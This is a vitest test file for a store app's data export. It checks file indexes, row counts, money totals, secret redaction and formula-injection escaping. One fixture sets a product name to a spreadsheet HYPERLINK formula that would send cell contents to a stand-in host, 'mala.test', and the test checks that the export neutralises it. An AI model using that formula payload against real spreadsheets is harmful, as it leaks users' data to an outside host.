import { createHash } from 'node:crypto'
import { readFile } from 'node:fs/promises'
import { join } from 'node:path'
import { sql } from 'kysely'
import { beforeAll, expect, test } from 'vitest'
import { client, directPurchase } from '../../test/build.ts'
import { pdf } from '../../test/files/attachable.ts'
import { testStore } from '../../test/harness.ts'
import { programOf } from '../../test/keys.ts'
import { openZip } from '../../test/open-zip.ts'
import { parseCsv } from '../../test/parse-csv.ts'
import { readWorkbook } from '../../test/read-workbook.ts'
import { businessDay, stockedProduct } from '../../test/stock.ts'
import { upload } from '../../test/upload.ts'
import { tableWords } from './table-words.ts'
import { writeTakeout } from './write-takeout.ts'

const store = testStore()
const today = businessDay()
const hostile = '=HYPERLINK("http://mala.test?"&A1,"ver")'
const picture = Buffer.from('RIFF0000WEBPVP8 ')
type Archive = ReadonlyMap<string, Buffer>
let archive: Archive
/** Of several stored parts. */
let attached: Buffer
let billId = 0
let productId = 0

beforeAll(async () => {
  const { db } = store.database
  productId = await stockedProduct(store, { stock: 10, price: 230 })
  billId = await sale(productId, 3, 230)
  await directPurchase(store.admin, { productId, price: 230 })
  await sql`update products set name = ${hostile} where id = ${productId}`.execute(db)
  await sql`insert into product_images (product_id, content, thumbnail, etag) values (${productId}, ${picture}, ${picture}, 'x')`.execute(
    db,
  )
  await sql`update settings set mail_password = 'clave-del-correo-9f2c', backup_s3_secret = 'secreto-s3-77aa', backup_s3_key_id = 'AKIATESTKEY77'`.execute(
    db,
  )
  await sql`update users set approval_pin_hash = '$argon2id$pin$aprobar' where id = ${store.admin.userId}`.execute(
    db,
  )
  await sql`insert into mail_outbox (recipient, subject, body, sent_at)
    values ('a@example.com', 'Contraseña', 'Su contraseña es clave-temporal-55', now())`.execute(db)
  await sql`insert into printers (name, kind, address, port, columns, code_page, created_by)
    values ('Rollo', 'network', '127.0.0.1', 9100, 48, 'cp850', 'admin')`.execute(db)
  await programOf(store, await store.user({ resources: ['verTodasFacturas'] }))
  attached = pdf(3_000_000)
  expect(
    (await upload(store.admin, `products/${productId}/attachments`, attached, 'Ficha técnica.pdf')).status,
  ).toBe(200)
  archive = await take()
})

async function sale(product: number, quantity: number, price: number): Promise<number> {
  const billDetails = [{ productId: product, quantity, price }]
  const { body, text } = await store.admin.post('bills', {
    date: today,
    clientId: 1,
    paymentTypeId: 1,
    billDetails,
  })
  expect(body.id, text).toEqual(expect.any(Number))
  return body.id
}

/** The files of a takeout, read by another library than the one that writes them. */
async function take(more: Partial<Parameters<typeof writeTakeout>[0]> = {}): Promise<Archive> {
  const path = join(store.dataDir, `${crypto.randomUUID()}.zip`)
  await writeTakeout({ url: store.database.url, lists: store.app.lists, path, format: 'csv', ...more })
  return openZip(await readFile(path))
}

/** The rows of a CSV by the titles of their columns. */
function rowsIn(files: Archive, path: string): Record<string, string>[] {
  const [titles = [], ...lines] = parseCsv(files.get(path)?.toString().slice(1) ?? '')
  return lines.map((line) => Object.fromEntries(titles.map((title, at) => [title, line[at] ?? ''])))
}
const csvIn = (path: string) => rowsIn(archive, path)

test('the table of contents names every file, with its rows and its SHA-256', () => {
  const index = csvIn('indice.csv')
  expect(index.map(({ Archivo }) => Archivo).toSorted()).toEqual(
    [...archive.keys()].filter((path) => path.includes('/')).toSorted(),
  )
  for (const { Archivo = '', Filas, Bytes, 'SHA-256': sum } of index) {
    const content = archive.get(Archivo) ?? Buffer.alloc(0)
    expect([content.length, createHash('sha256').update(content).digest('hex')], Archivo).toEqual([
      Number(Bytes),
      sum,
    ])
    if (Filas !== '') expect(parseCsv(content.toString().slice(1)).length - 1, Archivo).toBe(Number(Filas))
  }
  expect(archive.get('LEAME.txt')?.toString()).toMatch(/Yunque \d/)
  expect(archive.get('indice.html')?.toString()).toContain('href="tablas/facturas-lineas.csv"')
  expect(csvIn('columnas.csv')).toContainEqual({
    Archivo: 'tablas/facturas-lineas.csv',
    Columna: 'Cantidad',
    'Qué tiene': 'Número',
    'Nombre en el programa': 'quantity',
  })
})

test('every table has all its rows', async () => {
  const index = csvIn('indice.csv').filter(({ Archivo }) => Archivo?.startsWith('tablas/'))
  // Of the settings each column is a row, and mails of accounts are left out.
  const whole = Object.entries(tableWords).filter(([table]) => !['settings', 'mail_outbox'].includes(table))
  for (const [table, [title]] of whole) {
    const { rows } = await sql<{
      count: number
    }>`select count(*)::int as count from ${sql.table(table)}`.execute(store.database.db)
    const found = index.find((one) => one['Qué es']?.startsWith(`${title}: `))
    expect([table, Number(found?.Filas)]).toEqual([table, rows[0]?.count])
  }
})

test('the money of a takeout is that of the books', async () => {
  const sumOf = (file: string, column: string) =>
    Number(
      csvIn(file)
        .reduce((sum, row) => sum + Number(row[column]), 0)
        .toFixed(4),
    )
  const { rows } = await sql<Record<'lines' | 'bills' | 'stock' | 'moved', number>>`
    select (select sum(total) from bill_lines)::float8 as lines, (select sum(total) from bills)::float8 as bills,
      (select sum(value) from stock_balances)::float8 as stock, (select count(*) from stock_movements)::int as moved`.execute(
    store.database.db,
  )
  expect({
    lines: sumOf('tablas/facturas-lineas.csv', 'Total'),
    bills: sumOf('listas/facturas.csv', 'Total'),
    stock: sumOf('tablas/existencias.csv', 'Valor'),
    moved: csvIn('tablas/kardex.csv').length,
  }).toEqual(rows[0])
  const [debit, credit] = ['Debe', 'Haber'].map((side) => sumOf('listas/diario.csv', side))
  expect(debit).toBeGreaterThan(0)
  expect(debit).toBeCloseTo(credit ?? 0, 2)
})

test('a list has the rows of its screen', async () => {
  for (const [path, file] of [
    ['bills', 'facturas'],
    ['clients', 'clientes'],
    ['audit', 'bitacora'],
    ['inPutProducts', 'entradas'],
  ]) {
    const { body } = await store.admin.get(`${path}/get`, { take: 1, requireTotalCount: true })
    expect([path, csvIn(`listas/${file}.csv`).length]).toEqual([path, body.totalCount])
  }
})

test('lines say in words what their ids and codes are, and nothing is a formula for a spreadsheet', () => {
  const line = csvIn('tablas/facturas-lineas.csv').find(({ Factura }) => Factura === String(billId))
  expect(line).toMatchObject({ Producto: `'${hostile}`, Cantidad: '3', Total: '690' })
  const head = csvIn('tablas/facturas-encabezados.csv').find((row) => row['No.'] === String(billId))
  expect(Object.values(head ?? {})).toEqual(expect.arrayContaining(['Contado', 'Cliente de contado']))
  expect(csvIn('tablas/kardex.csv').map((row) => row.Movimiento)).toContain('Factura')
  for (const [name, content] of archive) {
    if (!name.endsWith('.csv')) continue
    for (const cell of parseCsv(content.toString().slice(1)).flat())
      if (Number.isNaN(Number(cell))) expect(cell, name).not.toMatch(/^[=+@\t\r-]/)
  }
})

test('pictures are files, named after their products', () => {
  const [path, content] =
    [...archive].find(([name]) => name.startsWith(`imagenes/${String(productId).padStart(5, '0')}-`)) ?? []
  expect(content).toEqual(picture)
  expect(csvIn('indice.csv').find(({ Archivo }) => Archivo === path)?.['Qué es']).toMatch(
    /^Imagen del producto T/,
  )
})

test('attachments are files, as they are stored', () => {
  const [path, content] = [...archive].find(([name]) => name.startsWith('adjuntos/')) ?? []
  expect(path).toMatch(/^adjuntos\/\d{5}-.*\.pdf$/)
  expect(content?.equals(attached)).toBe(true)
  expect(csvIn('indice.csv').find(({ Archivo }) => Archivo === path)?.['Qué es']).toBe(
    `Adjunto del producto ${productId}: Ficha técnica.pdf`,
  )
})

test('no secret of the store is in a takeout: each is looked for in every file', async () => {
  const { rows } = await sql<{ text: string }>`
    select password_hash as text from users where password_hash <> '' union select encode(token_hash, 'hex') from sessions
    union select encode(token_hash, 'base64') from sessions
    union select default_password_hash from settings where default_password_hash <> ''`.execute(
    store.database.db,
  )
  const typed = [
    'clave-del-correo-9f2c',
    'secreto-s3-77aa',
    'AKIATESTKEY77',
    'clave-temporal-55',
    store.admin.token,
  ]
  const secrets = [...rows.map(({ text }) => text), ...typed, '$argon2', 'yunque_', 'whsec_']
  expect(secrets.length).toBeGreaterThan(10)
  for (const [name, content] of archive)
    for (const secret of secrets) expect(content.includes(secret), `${secret} in ${name}`).toBe(false)
})

test('the workbooks are opened by another program, with typed cells', async () => {
  const lists = new Map([...store.app.lists].filter(([path]) => ['bills', 'clients'].includes(path)))
  const books = await take({ format: 'excel', lists })
  const [titles, ...lines] = await readWorkbook(books.get('tablas/facturas-lineas.xlsx') ?? Buffer.alloc(0))
  const line = lines.find(({ cells }) => cells[titles?.cells.indexOf('Factura') ?? -1] === billId)
  expect(line?.cells[titles?.cells.indexOf('Total') ?? -1]).toBe(690)
  expect(line?.cells[titles?.cells.indexOf('Producto') ?? -1]).toBe(`'${hostile}`)
  const [heads, ...bills] = await readWorkbook(books.get('listas/facturas.xlsx') ?? Buffer.alloc(0))
  expect(bills.find(({ cells }) => cells[0] === billId)?.cells[heads?.cells.indexOf('Fecha') ?? -1]).toBe(
    today,
  )
})

test('all files show one moment, also while others write', async () => {
  const { rows } = await sql<{ bills: number; lines: number }>`
    select (select count(*)::int from bills) as bills, (select count(*)::int from bill_lines) as lines`.execute(
    store.database.db,
  )
  let writing: Promise<unknown> | undefined
  const files = await take({
    onProgress: () => {
      writing ??= Promise.all([sale(productId, 1, 230), sale(productId, 2, 230), client(store.admin)])
    },
  })
  await writing
  expect({
    bills: rowsIn(files, 'tablas/facturas-encabezados.csv').length,
    lines: rowsIn(files, 'tablas/facturas-lineas.csv').length,
  }).toEqual(rows[0])
  expect(rowsIn(files, 'listas/reporte-de-ventas.csv').length).toBe(rows[0]?.lines)
})
